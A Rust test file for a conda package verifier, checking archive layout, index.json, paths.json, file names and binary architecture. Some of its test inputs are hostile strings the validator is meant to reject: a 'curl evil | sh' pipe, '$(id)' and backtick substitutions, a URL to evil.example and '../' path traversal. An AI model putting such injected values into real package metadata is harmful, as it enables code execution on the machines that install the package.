//! Conda packages: the outer archive, the index, and the list of files.

use trackside_artifact::Contents;
use trackside_domain::artifact_kind::ArtifactKind;
use trackside_testkit::conda::{CondaBuilder, row, zstd};
use trackside_testkit::tar::TarEntry;
use trackside_testkit::wheel::ZipEntry;

use crate::case::read_as;
use crate::tar_case::{CONDA, CONDA_1, TarCase, bz2, check_as, codes_of, conda, verify_as};

#[test]
fn both_forms_say_the_same() {
    for (name, bytes) in [(CONDA, conda().zip().bytes()), (CONDA_1, bz2(&conda()))] {
        let artifact = read_as(name, &bytes, ArtifactKind::Conda).unwrap();
        let Contents::Conda(conda) = &artifact.contents else { panic!("no conda package") };
        let file = &conda.file_name;
        assert_eq!((&*file.name, &*file.version, &*file.build), ("demo", "1.0", "py310_0"));
        let record = &conda.record;
        let about = &record.about;
        assert_eq!((record.build_number, &*record.subdir, about.timestamp), (3, "linux-64", Some(1_700_000_000_000)));
        assert_eq!((about.arch.as_deref(), about.platform.as_deref()), (Some("x86_64"), Some("linux")));
        assert_eq!(
            (&*record.depends, about.license.as_deref()),
            (&["python >=3.10,<3.11.0a0".to_owned()][..], Some("MIT"))
        );
        assert_eq!((artifact.members, artifact.warnings.len()), (8, 0));
    }
}

#[test]
fn a_first_look_at_a_conda_package_shows_the_index() {
    let folder = tempfile::TempDir::new().unwrap();
    for (name, bytes) in [(CONDA, conda().zip().bytes()), (CONDA_1, bz2(&conda()))] {
        let path = folder.path().join(name);
        std::fs::write(&path, bytes).unwrap();
        let said = trackside_artifact::inspect(&path, ArtifactKind::Conda).unwrap().said;
        let shown = (said.name.as_deref(), said.version.as_deref(), said.build.as_deref(), said.members);
        assert_eq!(shown, (Some("demo"), Some("1.0"), Some("py310_0"), 8));
        assert_eq!((said.tags, said.metadata.unwrap().license.as_deref()), (vec!["linux-64".to_owned()], Some("MIT")));
    }
}

#[test]
fn the_outer_archive_holds_three_stored_members() {
    check_as(CONDA, &outer_table());
}

pub(crate) fn outer_table() -> Vec<TarCase> {
    let stem = conda().stem();
    let member = |start: &str| format!("{start}-{stem}.tar.zst");
    let format = |json: &[u8]| conda().zip().replace("metadata.json", json).bytes();
    let info = zstd(&conda().info_tar().bytes());
    let misplaced = conda().with(|package| package.package.push(TarEntry::file("info/x", b"")));
    let all = zstd(&conda().tar().bytes());
    vec![
        ("no zip", b"hello".to_vec(), &["not-a-zip"]),
        ("a stranger", conda().zip().stored("x", b"").bytes(), &["conda-layout"]),
        ("no info", conda().zip().without(&member("info")).bytes(), &["conda-layout"]),
        ("no package", conda().zip().without(&member("pkg")).bytes(), &["conda-layout"]),
        (
            "a compressed member",
            conda().zip().edit(&member("info"), |entry| *entry = ZipEntry::deflated(member("info"), &info)).bytes(),
            &["conda-layout"],
        ),
        (
            "a compressed metadata.json",
            conda()
                .zip()
                .edit("metadata.json", |entry| {
                    *entry = ZipEntry::deflated("metadata.json", b"{\"conda_pkg_format_version\": 2}");
                })
                .bytes(),
            &["conda-layout"],
        ),
        ("no metadata.json", conda().zip().without("metadata.json").bytes(), &["conda-format"]),
        ("format 3", format(b"{\"conda_pkg_format_version\": 3}"), &["conda-format"]),
        ("no format", format(b"{}"), &["conda-format"]),
        ("no JSON", format(b"2"), &["conda-format"]),
        (
            "a wrong checksum",
            conda()
                .zip()
                .edit(&member("pkg"), |entry| {
                    *entry = entry.clone().with(|header| header.crc ^= 1);
                })
                .bytes(),
            &["content-crc"],
        ),
        ("a file of info in the package", misplaced.zip().bytes(), &["conda-layout"]),
        (
            "everything in info",
            conda().zip_of(&all, &zstd(&CondaBuilder::new("a", "1", "0").package_tar().bytes())).bytes(),
            &["conda-layout"],
        ),
        (
            "the same file in both",
            conda().zip_of(&all, &zstd(&conda().package_tar().bytes())).bytes(),
            &["conda-layout", "duplicate-member"],
        ),
        (
            "a link out of the package",
            conda().with(|package| package.package.push(TarEntry::symlink("x", "../x"))).zip().bytes(),
            &["tar-link-outside", "conda-paths-unlisted"],
        ),
        (
            "the inner archives of another build",
            CondaBuilder::new("demo", "1.0", "py310_1").zip().bytes(),
            &["conda-layout"],
        ),
    ]
}

#[test]
fn a_channel_is_told_what_info_says() {
    let said = |more: &str, exports: &str| {
        let package = conda().with(|package| {
            package.index = package.index.replacen("\"license\"", &format!("{more}, \"license\""), 1);
            package.run_exports = exports.to_owned();
        });
        let Some(Contents::Conda(conda)) = verify_as(CONDA, &package.zip().bytes()).contents else {
            panic!("it is a conda package")
        };
        conda.record
    };
    let record = said("\"noarch\": true, \"track_features\": [\"a\", \"b\"], \"features\": \"\"", "[\"demo >=1\"]");
    assert_eq!(record.about.noarch.as_deref(), Some("generic"));
    assert_eq!((record.about.track_features.as_deref(), record.about.features), (Some("a b"), None));
    assert_eq!(record.run_exports.weak, ["demo >=1"]);
    let record =
        said("\"noarch\": \"python\", \"track_features\": \" c  d\"", "{\"strong\": [\"demo\"], \"weak\": null}");
    assert_eq!((record.about.noarch.as_deref(), record.about.track_features.as_deref()), (Some("python"), Some("c d")));
    assert_eq!((record.run_exports.strong, record.run_exports.weak), (vec!["demo".to_owned()], Vec::new()));
}

#[test]
fn the_index_says_what_the_name_says() {
    check_as(CONDA, &index_table());
}

pub(crate) fn index_table() -> Vec<TarCase> {
    let index = |from: &str, to: &str| {
        assert!(conda().index.contains(from));
        conda().with(|package| package.index = package.index.replacen(from, to, 1)).zip().bytes()
    };
    let depends = |spec: &str| index("\"python >=3.10,<3.11.0a0\"", spec);
    let whole = |json: &str| conda().with(|package| package.index = json.to_owned()).zip().bytes();
    let without = conda().with(|package| package.left_out.push("info/index.json"));
    let exports = |json: &str| conda().with(|package| package.run_exports = json.to_owned()).zip().bytes();
    let large = format!("{{\"x\": \"{}\"}}", "x".repeat(2 << 20));
    vec![
        ("no index", without.zip().bytes(), &["conda-index-missing"]),
        ("no JSON", whole("hello"), &["conda-index-malformed"]),
        ("a list", whole("[]"), &["conda-index-malformed"]),
        ("a bottomless list", whole(&"[".repeat(100_000)), &["conda-index-malformed"]),
        ("too large", whole(&large), &["conda-index-malformed"]),
        ("no name", index("\"name\"", "\"nom\""), &["conda-index-malformed"]),
        ("the version twice", index("\"build\":", "\"version\": \"2\", \"build\":"), &["conda-index-malformed"]),
        ("a build number of text", index("3", "\"three\""), &["conda-index-malformed"]),
        ("a negative build number", index(" 3", " -3"), &["conda-index-malformed"]),
        ("another name", index("demo", "other"), &["conda-index-differs"]),
        ("another version", index("1.0", "1.1"), &["conda-index-differs"]),
        ("another build", index("py310_0", "py311_0"), &["conda-index-differs"]),
        ("no subdir", index("\"subdir\"", "\"dir\""), &["conda-subdir"]),
        ("an unknown subdir", index("linux-64", "linux-65"), &["conda-subdir"]),
        ("a subdir that leads out", index("linux-64", "../linux-64"), &["conda-subdir"]),
        ("shell text", depends("\"python; curl evil | sh\""), &["conda-depends"]),
        ("a substitution", depends("\"$(id)\""), &["conda-depends"]),
        ("a line feed", depends("\"python\\nevil\""), &["conda-depends"]),
        ("an escape", depends("\"python \\u001b[2J\""), &["conda-depends"]),
        ("an address", depends("\"https://evil.example/a.conda\""), &["conda-depends"]),
        ("an empty dependency", depends("\"\""), &["conda-depends"]),
        ("a constraint", index("\"license\"", "\"constrains\": [\"a`id`\"], \"license\""), &["conda-depends"]),
        ("an unknown noarch", index("\"license\"", "\"noarch\": \"ruby\", \"license\""), &["conda-index-malformed"]),
        ("a feature of numbers", index("\"license\"", "\"features\": [1], \"license\""), &["conda-index-malformed"]),
        ("exports that are no JSON", exports("{"), &["conda-run-exports"]),
        ("exports of text", exports("{\"weak\": \"a\"}"), &["conda-run-exports"]),
        ("exports of shell text", exports("{\"weak\": [\"a; id\"]}"), &["conda-run-exports"]),
        ("exports that are too large", exports(&format!("[\"{}\"]", "a".repeat(2 << 20))), &["conda-run-exports"]),
    ]
}

#[test]
fn the_list_of_files_is_complete_and_right() {
    check_as(CONDA, &paths_table());
}

pub(crate) fn paths_table() -> Vec<TarCase> {
    let rows = |change: fn(&mut Vec<String>)| conda().with(|package| change(&mut package.rows)).zip().bytes();
    let first =
        |change: fn(&str) -> String| conda().with(|package| package.rows[0] = change(&package.rows[0])).zip().bytes();
    let files = |change: fn(&mut Vec<String>)| conda().with(|package| change(&mut package.files)).zip().bytes();
    let without = |name: &'static str| conda().with(|package| package.left_out.push(name)).zip().bytes();
    let added = |entry: TarEntry| conda().entry(entry).zip().bytes();
    let folder = |path_type: &str| {
        let row = row("share/empty", path_type, b"");
        conda().entry(TarEntry::folder("share/empty/")).with(|package| {
            package.rows.push(row);
            package.files.push("share/empty".to_owned());
        })
    };
    vec![
        ("no paths.json", without("info/paths.json"), &["conda-paths-missing"]),
        ("no files, which is the older list", without("info/files"), &[]),
        ("no JSON", rows(|rows| rows[0].push('}')), &["conda-paths-malformed"]),
        ("no path", first(|row| row.replace("_path", "path")), &["conda-paths-malformed"]),
        ("an unknown type", first(|row| row.replace("hardlink", "wormhole")), &["conda-paths-malformed"]),
        ("a negative size", first(|row| row.replace("10}", "-10}")), &["conda-paths-malformed"]),
        ("another version", version_2(), &["conda-paths-malformed"]),
        ("a file that is not listed", rows(|rows| drop(rows.pop())), &["conda-paths-unlisted", "conda-files-differ"]),
        (
            "a link that is not listed",
            rows(|rows| drop(rows.remove(1))),
            &["conda-paths-unlisted", "conda-files-differ"],
        ),
        (
            "a stranger",
            rows(|rows| rows.push(row("x", "hardlink", b""))),
            &["conda-paths-stranger", "conda-files-differ"],
        ),
        (
            "a path that leads out",
            first(|row| row.replace("lib/", "../")),
            &["conda-paths-stranger", "conda-paths-unlisted", "conda-files-differ"],
        ),
        ("a row twice", rows(|rows| rows.push(rows[0].clone())), &["conda-paths-duplicate"]),
        (
            "a hash that is too long",
            first(|row| row.replace("\"sha256\": \"", "\"sha256\": \"0")),
            &["conda-paths-hash-missing"],
        ),
        (
            "the hash of another file",
            rows(|rows| rows[0] = row("lib/libdemo.so.1", "hardlink", b"other text")),
            &["conda-paths-hash-differs"],
        ),
        (
            "the hash of another file at a hard link",
            rows(|rows| rows[2] = row("bin/demo", "hardlink", b"other text")),
            &["conda-paths-hash-differs"],
        ),
        ("no hash", first(|row| row.replace("sha256", "sha")), &["conda-paths-hash-missing"]),
        ("another size", first(|row| row.replace("10}", "11}")), &["conda-paths-size-differs"]),
        ("no size", first(|row| row.replace("size_in_bytes", "size")), &["conda-paths-hash-missing"]),
        ("a file taken for a link", first(|row| row.replace("hardlink", "softlink")), &["conda-paths-type"]),
        (
            "a link taken for a file",
            rows(|rows| rows[1] = rows[1].replace("softlink", "hardlink")),
            &["conda-paths-type"],
        ),
        ("a file taken for a folder", first(|row| row.replace("hardlink", "directory")), &["conda-paths-type"]),
        ("an empty folder that is listed", folder("directory").zip().bytes(), &[]),
        ("a folder taken for a file", folder("hardlink").zip().bytes(), &["conda-paths-type"]),
        ("a folder that is not listed", added(TarEntry::folder("share/")), &[]),
        ("a file that no list has", added(TarEntry::file("x", b"")), &["conda-paths-unlisted"]),
        ("a hard link to nothing", added(TarEntry::hard_link("x", "y")), &["tar-hard-link", "conda-paths-unlisted"]),
        ("a name less in files", files(|files| drop(files.pop())), &["conda-files-differ"]),
        ("a name more in files", files(|files| files.push("x".to_owned())), &["conda-files-differ"]),
    ]
}

fn version_2() -> Vec<u8> {
    let info = conda().info_tar().edit("info/paths.json", |entry| {
        let at = entry.data.len() - 2;
        entry.data[at] = b'2';
    });
    conda().zip_of(&zstd(&info.bytes()), &zstd(&conda().package_tar().bytes())).bytes()
}

#[test]
fn the_name_of_the_file_is_name_version_and_build() {
    for name in ["demo-1.0.conda", "demo.tar.bz2", "demo 1-1.0-0.conda", "demo--0.tar.bz2"] {
        let bytes = if name.ends_with(".conda") { conda().zip().bytes() } else { bz2(&conda()) };
        let report = verify_as(name, &bytes);
        assert_eq!(codes_of(&report)[0], "conda-file-name", "{name}");
        assert_eq!(report.contents, None);
    }
}

#[test]
fn the_older_form_keeps_the_same_rules() {
    check_as(CONDA_1, &older_table());
}

pub(crate) fn older_table() -> Vec<TarCase> {
    vec![
        ("good", bz2(&conda()), &[]),
        ("a file that is not listed", bz2(&conda().entry(TarEntry::file("x", b""))), &["conda-paths-unlisted"]),
        ("a device", bz2(&conda().entry(TarEntry::new(b'3', "x", b""))), &["special-file"]),
        ("a file through a link", bz2(&conda().file("lib/libdemo.so/x", b"")), &["tar-through-link"]),
        ("another build", bz2(&CondaBuilder::new("demo", "1.0", "py310_1")), &["conda-index-differs"]),
    ]
}

#[test]
fn libraries_are_for_the_processor_of_the_subdir() {
    use trackside_testkit::binary::{ElfBuilder, Pe};
    let with = |subdir: &str, library: &[u8]| {
        let package = conda().file("lib/native.so", library);
        package.with(|package| package.index = package.index.replace("linux-64", subdir))
    };
    let differs: &[&str] = &["binary-machine-differs"];
    for (subdir, library, expected) in [
        ("linux-64", ElfBuilder::new(62).bytes(), &[][..]),
        ("linux-64", ElfBuilder::new(183).bytes(), differs),
        ("linux-aarch64", ElfBuilder::new(183).bytes(), &[]),
        ("linux-64", ElfBuilder::new(190).bytes(), &[]),
        ("win-64", Pe::library(0xaa64).bytes(), differs),
        ("noarch", ElfBuilder::new(183).bytes(), &[]),
        ("linux-64", b"\x7fELF".to_vec(), &[]),
    ] {
        for (name, bytes) in [(CONDA, with(subdir, &library).zip().bytes()), (CONDA_1, bz2(&with(subdir, &library)))] {
            let report = verify_as(name, &bytes);
            let codes: Vec<&str> = codes_of(&report).into_iter().filter(|code| code.starts_with("binary-")).collect();
            assert_eq!(codes, expected, "{name} {subdir}: {:?}", report.findings);
        }
    }
}
